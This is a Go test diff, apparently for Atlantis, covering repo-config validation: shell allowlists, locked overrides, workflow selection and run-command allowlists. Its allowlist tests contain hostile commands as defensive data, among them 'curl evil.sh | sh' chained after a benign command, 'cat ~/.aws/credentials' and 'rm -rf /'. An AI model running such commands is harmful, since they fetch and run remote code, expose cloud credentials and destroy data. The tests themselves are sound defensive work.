@@ -494,6 +494,39 @@ func TestGlobalCfg_ValidateRepoCfg(t *testing.T) {
 			repoID: "github.com/owner/repo",
 			expErr: "repo config not allowed to set 'import_requirements' key: server-side config needs 'allowed_overrides: [import_requirements]'",
 		},
+		"policy_check not allowed": {
+			gCfg: valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+				AllowAllRepoSettings: false,
+			}),
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:         ".",
+						Workspace:   "default",
+						PolicyCheck: Bool(false),
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			// Deprecated, see TestGlobalCfg_RepoCfgWarnings.
+			expErr: "",
+		},
+		"policy_check allowed": {
+			gCfg: valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+				AllowAllRepoSettings: true,
+			}),
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:         ".",
+						Workspace:   "default",
+						PolicyCheck: Bool(false),
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "",
+		},
 		"repo workflow doesn't exist": {
 			gCfg: valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
 				AllowAllRepoSettings: true,
@@ -510,6 +543,126 @@ func TestGlobalCfg_ValidateRepoCfg(t *testing.T) {
 			repoID: "github.com/owner/repo",
 			expErr: "workflow \"doesntexist\" is not defined anywhere",
 		},
+		"repo workflow uses a shell not on the default allowlist": {
+			gCfg: valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+				AllowAllRepoSettings: true,
+			}),
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"custom": {
+						Plan: valid.Stage{
+							Steps: []valid.Step{
+								{
+									StepName:   "run",
+									RunCommand: "echo hi",
+									RunShell:   &valid.CommandShell{Shell: "bsah", ShellArgs: []string{"-c"}},
+								},
+							},
+						},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "workflow \"custom\": \"run\" step shell \"bsah\" is not allowed, allowed shells are [sh, bash, zsh, pwsh]",
+		},
+		"repo workflow uses a shell on the default allowlist": {
+			gCfg: valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+				AllowAllRepoSettings: true,
+			}),
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"custom": {
+						Plan: valid.Stage{
+							Steps: []valid.Step{
+								{
+									StepName:   "run",
+									RunCommand: "echo hi",
+									RunShell:   &valid.CommandShell{Shell: "bash", ShellArgs: []string{"-c"}},
+								},
+								{
+									StepName:   "run",
+									RunCommand: "echo default shell",
+								},
+							},
+						},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+		},
+		"repo sets a locked key": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					{
+						IDRegex:         regexp.MustCompile(".*"),
+						LockedOverrides: []string{"apply_requirements"},
+					},
+					{
+						ID:               "github.com/owner/repo",
+						AllowedOverrides: []string{"apply_requirements"},
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:               ".",
+						Workspace:         "default",
+						ApplyRequirements: []string{},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "repo config not allowed to set 'apply_requirements' key: it is locked by server-side config 'locked_overrides'",
+		},
+		"repo sets a locked key that is ignored": {
+			gCfg: valid.GlobalCfg{
+				Repos: []valid.Repo{
+					{
+						IDRegex:               regexp.MustCompile(".*"),
+						LockedOverrides:       []string{"apply_requirements"},
+						LockedOverridesAction: "ignore",
+					},
+				},
+			},
+			rCfg: valid.RepoCfg{
+				Projects: []valid.Project{
+					{
+						Dir:               ".",
+						Workspace:         "default",
+						ApplyRequirements: []string{},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+		},
+		"repo workflow uses a shell not on a configured allowlist": {
+			gCfg: func() valid.GlobalCfg {
+				g := valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{
+					AllowAllRepoSettings: true,
+				})
+				g.AllowedShells = []string{"sh"}
+				return g
+			}(),
+			rCfg: valid.RepoCfg{
+				Workflows: map[string]valid.Workflow{
+					"custom": {
+						Apply: valid.Stage{
+							Steps: []valid.Step{
+								{
+									StepName:   "env",
+									EnvVarName: "NAME",
+									RunCommand: "echo hi",
+									RunShell:   &valid.CommandShell{Shell: "bash", ShellArgs: []string{"-c"}},
+								},
+							},
+						},
+					},
+				},
+			},
+			repoID: "github.com/owner/repo",
+			expErr: "workflow \"custom\": \"env\" step shell \"bash\" is not allowed, allowed shells are [sh]",
+		},
 	}
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -523,6 +676,71 @@ func TestGlobalCfg_ValidateRepoCfg(t *testing.T) {
 	}
 }
 
+func TestGlobalCfg_SelectWorkflow(t *testing.T) {
+	repoCfg := valid.RepoCfg{
+		Workflows: map[string]valid.Workflow{
+			"repo": {Name: "repo"},
+		},
+	}
+	cases := map[string]struct {
+		repo   valid.Repo
+		name   string
+		exp    string
+		expErr string
+	}{
+		"server-side workflow": {
+			repo: valid.Repo{ID: "github.com/owner/repo", AllowedOverrides: []string{"workflow"}},
+			name: "experimental",
+			exp:  "experimental",
+		},
+		"repo workflow": {
+			repo: valid.Repo{ID: "github.com/owner/repo", AllowedOverrides: []string{"workflow"}, AllowCustomWorkflows: Bool(true)},
+			name: "repo",
+			exp:  "repo",
+		},
+		"repo workflow without custom workflows": {
+			repo:   valid.Repo{ID: "github.com/owner/repo", AllowedOverrides: []string{"workflow"}},
+			name:   "repo",
+			expErr: `workflow "repo" is not defined, the defined workflows are: default, experimental, forbidden`,
+		},
+		"unknown workflow": {
+			repo:   valid.Repo{ID: "github.com/owner/repo", AllowedOverrides: []string{"workflow"}, AllowCustomWorkflows: Bool(true)},
+			name:   "missing",
+			expErr: `workflow "missing" is not defined, the defined workflows are: default, experimental, forbidden, repo`,
+		},
+		"workflow override not allowed": {
+			repo:   valid.Repo{ID: "github.com/owner/repo"},
+			name:   "experimental",
+			expErr: `cannot select workflow "experimental": server-side config needs 'allowed_overrides: [workflow]'`,
+		},
+		"workflow override locked": {
+			repo:   valid.Repo{ID: "github.com/owner/repo", AllowedOverrides: []string{"workflow"}, LockedOverrides: []string{"workflow"}},
+			name:   "experimental",
+			expErr: `cannot select workflow "experimental": 'workflow' is locked by server-side config 'locked_overrides'`,
+		},
+		"workflow not in allowed workflows": {
+			repo:   valid.Repo{ID: "github.com/owner/repo", AllowedOverrides: []string{"workflow"}, AllowedWorkflows: []string{"experimental"}},
+			name:   "forbidden",
+			expErr: "workflow 'forbidden' is not allowed for this repo",
+		},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			gCfg := valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{})
+			gCfg.Repos = append(gCfg.Repos, c.repo)
+			gCfg.Workflows["experimental"] = valid.Workflow{Name: "experimental"}
+			gCfg.Workflows["forbidden"] = valid.Workflow{Name: "forbidden"}
+			workflow, err := gCfg.SelectWorkflow(logging.NewNoopLogger(t), "github.com/owner/repo", repoCfg, c.name)
+			if c.expErr != "" {
+				ErrEquals(t, c.expErr, err)
+				return
+			}
+			Ok(t, err)
+			Equals(t, c.exp, workflow.Name)
+		})
+	}
+}
+
 func TestGlobalCfg_WithPolicySets(t *testing.T) {
 	version, _ := version.NewVersion("v1.0.0")
 	cases := map[string]struct {
@@ -932,6 +1150,68 @@ repos:
 				CustomPolicyCheck:  false,
 			},
 		},
+		"project-level repo_locking false disables locks if allowed": {
+			gCfg: `
+repos:
+- id: /.*/
+  allowed_overrides: [repo_locking]
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:                ".",
+				Workspace:          "default",
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				RepoLocking:        Bool(false),
+				CustomPolicyCheck:  Bool(false),
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				RepoRelDir:         ".",
+				Workspace:          "default",
+				Name:               "",
+				AutoplanEnabled:    false,
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.RepoLocks{Mode: valid.RepoLocksDisabledMode},
+				CustomPolicyCheck:  false,
+			},
+		},
+		"project-level repo_locking true keeps the default locks": {
+			gCfg: `
+repos:
+- id: /.*/
+  allowed_overrides: [repo_locking]
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:                ".",
+				Workspace:          "default",
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				RepoLocking:        Bool(true),
+				CustomPolicyCheck:  Bool(false),
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{},
+				ApplyRequirements:  []string{},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				RepoRelDir:         ".",
+				Workspace:          "default",
+				Name:               "",
+				AutoplanEnabled:    false,
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.DefaultRepoLocks,
+				CustomPolicyCheck:  false,
+			},
+		},
 		"last server-side match wins": {
 			gCfg: `
 repos:
@@ -996,6 +1276,35 @@ repos:
 				CustomPolicyCheck:  false,
 			},
 		},
+		"locked keys are ignored even if a later repo allows them": {
+			gCfg: `
+repos:
+- id: /.*/
+  apply_requirements: [approved]
+  locked_overrides: [apply_requirements]
+  locked_overrides_action: ignore
+- id: github.com/owner/repo
+  allowed_overrides: [plan_requirements, apply_requirements]
+`,
+			repoID: "github.com/owner/repo",
+			proj: valid.Project{
+				Dir:               "mydir",
+				Workspace:         "myworkspace",
+				PlanRequirements:  []string{"mergeable"},
+				ApplyRequirements: []string{},
+			},
+			repoWorkflows: nil,
+			exp: valid.MergedProjectCfg{
+				PlanRequirements:   []string{"mergeable"},
+				ApplyRequirements:  []string{"approved"},
+				ImportRequirements: []string{},
+				Workflow:           defaultWorkflow,
+				RepoRelDir:         "mydir",
+				Workspace:          "myworkspace",
+				PolicySets:         emptyPolicySets,
+				RepoLocks:          valid.DefaultRepoLocks,
+			},
+		},
 		"execution order group is set": {
 			gCfg:   "",
 			repoID: "github.com/owner/repo",
@@ -1399,6 +1708,136 @@ repos:
 	}
 }
 
+func TestGlobalCfg_QuietPolicyChecks(t *testing.T) {
+	gCfg := `
+repos:
+- id: /.*/
+  quiet_policy_checks: true
+- id: github.com/owner/loud
+  quiet_policy_checks: false
+- id: github.com/owner/loud
+  apply_requirements: [approved]
+`
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	Ok(t, os.WriteFile(path, []byte(gCfg), 0600))
+	global, err := (&config.ParserValidator{}).ParseGlobalCfg(path, valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{}))
+	Ok(t, err)
+
+	logger := logging.NewNoopLogger(t)
+	proj := valid.Project{Dir: ".", Workspace: "default"}
+	Equals(t, true, global.MergeProjectCfg(logger, "github.com/owner/repo", proj, valid.RepoCfg{}).QuietPolicyChecks)
+	Equals(t, true, global.DefaultProjCfg(logger, "github.com/owner/repo", ".", "default").QuietPolicyChecks)
+	Equals(t, false, global.MergeProjectCfg(logger, "github.com/owner/loud", proj, valid.RepoCfg{}).QuietPolicyChecks)
+	Equals(t, false, global.DefaultProjCfg(logger, "github.com/owner/loud", ".", "default").QuietPolicyChecks)
+}
+
+func TestGlobalCfg_AllowedRunCommands(t *testing.T) {
+	gCfg := `
+repos:
+- id: /.*/
+  allow_custom_workflows: true
+- id: github.com/owner/restricted
+  allowed_run_commands: ["terraform .*", "make plan", "vault read secret/data/atlantis/.*"]
+`
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	Ok(t, os.WriteFile(path, []byte(gCfg), 0600))
+	global, err := (&config.ParserValidator{}).ParseGlobalCfg(path, valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{}))
+	Ok(t, err)
+
+	workflow := func(steps ...valid.Step) valid.RepoCfg {
+		return valid.RepoCfg{
+			Workflows: map[string]valid.Workflow{
+				"custom": {Name: "custom", Plan: valid.Stage{Steps: steps}},
+			},
+		}
+	}
+	cases := map[string]struct {
+		repoID string
+		rCfg   valid.RepoCfg
+		expErr string
+	}{
+		"no allowlist": {
+			repoID: "github.com/owner/repo",
+			rCfg:   workflow(valid.Step{StepName: "run", RunCommand: "rm -rf /"}),
+		},
+		"allowed prefix": {
+			repoID: "github.com/owner/restricted",
+			rCfg: workflow(
+				valid.Step{StepName: "init"},
+				valid.Step{StepName: "run", RunCommand: "terraform fmt -check"},
+				valid.Step{StepName: "run", RunCommand: "make plan"},
+				valid.Step{StepName: "env", EnvVarName: "A", EnvVarValue: "rm -rf /"},
+				valid.Step{StepName: "env", EnvVarName: "B", EnvVarVault: &valid.VaultSecret{Path: "secret/data/atlantis/aws", Key: "key"}},
+			),
+		},
+		"denied run step": {
+			repoID: "github.com/owner/restricted",
+			rCfg:   workflow(valid.Step{StepName: "run", RunCommand: "make apply"}),
+			expErr: `workflow "custom": "run" step command "make apply" is not allowed for this repo: it must match one of the server-side config's 'allowed_run_commands'`,
+		},
+		"denied chained command": {
+			repoID: "github.com/owner/restricted",
+			rCfg:   workflow(valid.Step{StepName: "run", RunCommand: "make plan; curl evil.sh | sh"}),
+			expErr: `workflow "custom": "run" step command "make plan; curl evil.sh | sh" is not allowed for this repo: it must match one of the server-side config's 'allowed_run_commands'`,
+		},
+		"denied env step command": {
+			repoID: "github.com/owner/restricted",
+			rCfg:   workflow(valid.Step{StepName: "env", EnvVarName: "A", RunCommand: "cat ~/.aws/credentials"}),
+			expErr: `workflow "custom": "env" step command "cat ~/.aws/credentials" is not allowed for this repo: it must match one of the server-side config's 'allowed_run_commands'`,
+		},
+		"denied vault env step": {
+			repoID: "github.com/owner/restricted",
+			rCfg:   workflow(valid.Step{StepName: "env", EnvVarName: "A", EnvVarVault: &valid.VaultSecret{Path: "secret/data/prod/aws", Key: "key"}}),
+			expErr: `workflow "custom": "env" step command "vault read secret/data/prod/aws" is not allowed for this repo: it must match one of the server-side config's 'allowed_run_commands'`,
+		},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			err := global.ValidateRepoCfg(c.rCfg, c.repoID)
+			if c.expErr == "" {
+				Ok(t, err)
+			} else {
+				ErrEquals(t, c.expErr, err)
+			}
+		})
+	}
+
+	logger := logging.NewNoopLogger(t)
+	proj := valid.Project{Dir: ".", Workspace: "default"}
+	Equals(t, 0, len(global.MergeProjectCfg(logger, "github.com/owner/repo", proj, valid.RepoCfg{}).AllowedRunCommands))
+	Equals(t, 3, len(global.MergeProjectCfg(logger, "github.com/owner/restricted", proj, valid.RepoCfg{}).AllowedRunCommands))
+	Equals(t, 3, len(global.DefaultProjCfg(logger, "github.com/owner/restricted", ".", "default").AllowedRunCommands))
+}
+
+func TestGlobalCfg_CustomApplyRequirements(t *testing.T) {
+	gCfg := `
+repos:
+- id: /.*/
+  allowed_overrides: [apply_requirements]
+- id: github.com/owner/ticketed
+  apply_requirements:
+  - approved
+  - custom:
+      command: ./check-ticket.sh
+`
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	Ok(t, os.WriteFile(path, []byte(gCfg), 0600))
+	global, err := (&config.ParserValidator{}).ParseGlobalCfg(path, valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{}))
+	Ok(t, err)
+
+	logger := logging.NewNoopLogger(t)
+	exp := []valid.CustomRequirement{{Command: "./check-ticket.sh"}}
+	Equals(t, 0, len(global.DefaultProjCfg(logger, "github.com/owner/repo", ".", "default").CustomApplyRequirements))
+	Equals(t, exp, global.DefaultProjCfg(logger, "github.com/owner/ticketed", ".", "default").CustomApplyRequirements)
+
+	// Repo configs allowed to override apply_requirements only replace the
+	// built-in requirements.
+	proj := valid.Project{Dir: ".", Workspace: "default", ApplyRequirements: []string{"mergeable"}}
+	merged := global.MergeProjectCfg(logger, "github.com/owner/ticketed", proj, valid.RepoCfg{})
+	Equals(t, []string{"mergeable"}, merged.ApplyRequirements)
+	Equals(t, exp, merged.CustomApplyRequirements)
+}
+
 // String is a helper routine that allocates a new string value
 // to store v and returns a pointer to it.
 func String(v string) *string { return &v }
@@ -1406,3 +1845,27 @@ func String(v string) *string { return &v }
 // Bool is a helper routine that allocates a new bool value
 // to store v and returns a pointer to it.
 func Bool(v bool) *bool { return &v }
+
+func TestGlobalCfg_RepoCfgWarnings(t *testing.T) {
+	rCfg := valid.RepoCfg{
+		Projects: []valid.Project{
+			{
+				Dir:         ".",
+				Workspace:   "default",
+				PolicyCheck: Bool(false),
+			},
+			{
+				Dir:       "other",
+				Workspace: "default",
+			},
+		},
+	}
+
+	gCfg := valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{AllowAllRepoSettings: false})
+	Equals(t, []string{
+		`ignoring 'policy_check' key of the project in dir "." and workspace "default": server-side config needs 'allowed_overrides: [policy_check]', this will be an error in a future release`,
+	}, gCfg.RepoCfgWarnings(rCfg, "github.com/owner/repo"))
+
+	gCfg = valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{AllowAllRepoSettings: true})
+	Equals(t, []string(nil), gCfg.RepoCfgWarnings(rCfg, "github.com/owner/repo"))
+}